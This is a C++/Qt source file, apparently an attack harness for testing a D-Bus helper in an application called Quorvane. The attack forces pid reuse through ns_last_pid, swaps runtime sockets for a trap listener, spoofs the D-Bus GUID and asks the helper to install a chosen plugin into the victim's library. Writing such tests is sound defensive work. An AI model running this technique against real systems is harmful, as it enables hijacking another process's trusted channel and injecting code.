// Another process of the user that tries every trick on the helper's road
// before the application asks for it, then starts the application itself:
//
//   helper_attacker LIBRARY PLUGIN LOG PROGRAM ARG...
//
// It runs as the first process of a private pid namespace (unshare), where
// ns_last_pid decides the next pid, so pid reuse is certain rather than
// likely:
// - a listening socket is made by a process that then exits, so the kernel
//   records for it the pid that PROGRAM (the application) is then given;
// - while the application waits for the helper, every socket that appears in
//   $XDG_RUNTIME_DIR, and every path named on a command line after
//   "--address", is replaced by that listener (with the D-Bus GUID of the
//   command line put into the server's answer);
// - whatever connects to it is asked, over D-Bus, to install PLUGIN into
//   LIBRARY (the victim's).
// It writes what happened to LOG ("served" when the helper did its bidding)
// and the application's answers to its own standard output.
#include "QVHelperProtocol.h"

#include <QCoreApplication>
#include <QDBusConnection>
#include <QDBusMessage>
#include <QDBusPendingCallWatcher>
#include <QDBusServer>
#include <QDateTime>
#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QFileInfo>
#include <QSet>
#include <QTimer>

#include <cstdlib>
#include <cstring>
#include <thread>

#include <fcntl.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

using namespace QVHelperProtocol;

namespace {

constexpr pid_t kApplicationPid = 400;
// How a helper was once told where to find the application, and what it
// served there.
constexpr char kAddressFlag[] = "--address";
constexpr char kObjectPath[] = "/org/quorvane/Helper";
constexpr char kInterface[] = "org.quorvane.Helper";
constexpr char kPerformMethod[] = "Perform";

QString logPath;

void note(const QByteArray &line)
{
    QFile file(logPath);
    if (file.open(QIODevice::Append))
        file.write(line + '\n');
}

bool setNextPid(pid_t next)
{
    QFile file(QStringLiteral("/proc/sys/kernel/ns_last_pid"));
    return file.open(QIODevice::WriteOnly) && file.write(QByteArray::number(next - 1)) > 0;
}

sockaddr_un address(const QByteArray &path)
{
    sockaddr_un a{};
    a.sun_family = AF_UNIX;
    std::strncpy(a.sun_path, path.constData(), sizeof a.sun_path - 1);
    return a;
}

// The first "--address unix:path=P,guid=G" on any command line.
bool addressOnACommandLine(QByteArray *path, QByteArray *guid)
{
    QDirIterator processes(QStringLiteral("/proc"), QDir::Dirs | QDir::NoDotAndDotDot);
    while (processes.hasNext()) {
        QFile file(processes.next() + QStringLiteral("/cmdline"));
        if (!file.open(QIODevice::ReadOnly))
            continue;
        const QList<QByteArray> arguments = file.readAll().split('\0');
        const qsizetype option = arguments.indexOf(QByteArray(kAddressFlag));
        if (option < 0 || option + 1 >= arguments.size())
            continue;
        for (const QByteArray &field : arguments[option + 1].mid(5).split(',')) {
            if (field.startsWith("path="))
                *path = field.mid(5);
            else if (field.startsWith("guid="))
                *guid = field.mid(5);
        }
        if (!path->isEmpty())
            return true;
    }
    return false;
}

// Copies bytes both ways; the server's first line "OK <guid>" is given the
// GUID the client expects.
void relay(int client, const QByteArray &serverPath)
{
    // By now the helper's command line shows the GUID it expects.
    QByteArray path, guid;
    addressOnACommandLine(&path, &guid);
    const int server = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    const sockaddr_un a = address(serverPath);
    if (::connect(server, reinterpret_cast<const sockaddr *>(&a), sizeof a) != 0) {
        ::close(client);
        return;
    }
    QByteArray greeting;
    bool greeted = false;
    pollfd fds[2] = {{client, POLLIN, 0}, {server, POLLIN, 0}};
    char buffer[4096];
    while (::poll(fds, 2, 20000) > 0) {
        if (fds[0].revents) {
            const ssize_t n = ::read(client, buffer, sizeof buffer);
            if (n <= 0 || ::write(server, buffer, size_t(n)) != n)
                break;
        }
        if (fds[1].revents) {
            const ssize_t n = ::read(server, buffer, sizeof buffer);
            if (n <= 0)
                break;
            QByteArray chunk(buffer, n);
            if (!greeted) {
                greeting += chunk;
                const qsizetype end = greeting.indexOf("\r\n");
                if (end < 0)
                    continue;
                if (greeting.startsWith("OK ") && !guid.isEmpty())
                    greeting = "OK " + guid + greeting.mid(end);
                chunk = greeting;
                greeted = true;
            }
            if (::write(client, chunk.constData(), size_t(chunk.size())) != chunk.size())
                break;
        }
    }
    ::close(server);
    ::close(client);
}

class Attacker final : public QObject {
public:
    Attacker(QString library, QString plugin, int trap, QString trapPath, QString serverPath)
        : library_(std::move(library)),
          plugin_(std::move(plugin)),
          trap_(trap),
          trapPath_(std::move(trapPath)),
          server_(QStringLiteral("unix:path=") + serverPath),
          serverPath_(std::move(serverPath))
    {
        QObject::connect(&server_, &QDBusServer::newConnection, this, &Attacker::ask);
        runtime_ = qEnvironmentVariable("XDG_RUNTIME_DIR");
        note(server_.isConnected() ? "listening" : "no server");
    }

    // One look at what the machine shows; the trap goes on the first road.
    void look()
    {
        if (swapped_)
            return;
        QByteArray path, guid;
        if (addressOnACommandLine(&path, &guid))
            return swap(path);
        if (runtime_.isEmpty())
            return;
        QDirIterator sockets(runtime_, QDir::System | QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
        while (sockets.hasNext()) {
            const QString path = sockets.next();
            struct stat status {};
            if (path != trapPath_ && ::lstat(QFile::encodeName(path).constData(), &status) == 0
                && S_ISSOCK(status.st_mode))
                return swap(QFile::encodeName(path));
        }
    }

private:
    void swap(const QByteArray &path)
    {
        swapped_ = true;
        const bool moved = ::rename(QFile::encodeName(trapPath_).constData(), path.constData()) == 0;
        note("swapped " + path + (moved ? " in" : " failed"));
        std::thread([trap = trap_, server = QFile::encodeName(serverPath_)] {
            const int client = ::accept4(trap, nullptr, nullptr, SOCK_CLOEXEC);
            if (client >= 0)
                relay(client, server);
        }).detach();
    }

    void ask(const QDBusConnection &connection)
    {
        note("connected");
        perform(connection.name(), 50);
    }

    // Asks until served: the helper registers its service a moment after
    // the connection is up.
    void perform(const QString &name, int triesLeft)
    {
        QDBusMessage call = QDBusMessage::createMethodCall(QString(), QLatin1String(kObjectPath),
                                                           QLatin1String(kInterface), QLatin1String(kPerformMethod));
        call << QVariantMap{{QLatin1String(kActionKey), QLatin1String(kActionInstallMailPlugin)},
                            {QLatin1String(kSourcePathKey), plugin_},
                            {QLatin1String(kLibraryPathKey), library_}};
        const QDBusConnection connection(name);
        auto *watcher = new QDBusPendingCallWatcher(connection.asyncCall(call, 20000), this);
        QObject::connect(
            watcher, &QDBusPendingCallWatcher::finished, this, [this, name, triesLeft](QDBusPendingCallWatcher *done) {
                done->deleteLater();
                if (done->isError() && triesLeft > 0 && QDBusConnection(name).isConnected()) {
                    QTimer::singleShot(100, this, [this, name, triesLeft] { perform(name, triesLeft - 1); });
                    return;
                }
                note(done->isError() ? "refused: " + done->error().message().toUtf8() : "served");
                QDBusConnection::disconnectFromPeer(name);
            });
    }

    QString library_;
    QString plugin_;
    int trap_;
    QString trapPath_;
    QDBusServer server_;
    QString serverPath_;
    QString runtime_;
    bool swapped_ = false;
};

}  // namespace

int main(int argc, char *argv[])
{
    if (argc < 5)
        return 2;
    logPath = QString::fromLocal8Bit(argv[3]);
    QCoreApplication application(argc, argv);
    QDir scratch(QDir::tempPath());
    const QString folder =
        scratch.filePath(QStringLiteral("attacker-%1-%2").arg(::getpid()).arg(QDateTime::currentMSecsSinceEpoch()));
    QDir().mkpath(folder);
    const QString trapPath = folder + QStringLiteral("/trap");

    // The listener, recorded under the pid the application will have.
    const int trap = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (!setNextPid(kApplicationPid)) {
        note("no ns_last_pid");
        return 3;
    }
    const pid_t maker = ::fork();
    if (maker == 0) {
        const sockaddr_un a = address(QFile::encodeName(trapPath));
        const bool ok = ::bind(trap, reinterpret_cast<const sockaddr *>(&a), sizeof a) == 0 && ::listen(trap, 8) == 0;
        _exit(ok ? 0 : 1);
    }
    int status = 0;
    ::waitpid(maker, &status, 0);
    note("listener made by " + QByteArray::number(maker) + (status == 0 ? "" : " (failed)"));

    int output[2];
    if (::pipe2(output, O_CLOEXEC) != 0 || ::fcntl(output[0], F_SETFL, O_NONBLOCK) != 0 || !setNextPid(kApplicationPid))
        return 3;
    const pid_t victim = ::fork();
    if (victim == 0) {
        ::dup2(output[1], STDOUT_FILENO);
        ::execv(argv[4], argv + 4);
        _exit(127);
    }
    ::close(output[1]);
    note("application is " + QByteArray::number(victim));

    Attacker attacker(QString::fromLocal8Bit(argv[1]), QString::fromLocal8Bit(argv[2]), trap, trapPath,
                      folder + QStringLiteral("/server"));
    QByteArray answers;
    QTimer tick;
    QObject::connect(&tick, &QTimer::timeout, [&] {
        attacker.look();
        char buffer[4096];
        for (ssize_t n; (n = ::read(output[0], buffer, sizeof buffer)) > 0;)
            answers.append(buffer, n);
        int exited = 0;
        if (::waitpid(victim, &exited, WNOHANG) == victim)
            QCoreApplication::quit();
    });
    tick.start(5);
    QTimer::singleShot(90 * 1000, &QCoreApplication::quit);
    application.exec();
    std::fwrite(answers.constData(), 1, size_t(answers.size()), stdout);
    QDir(folder).removeRecursively();
    return 0;
}
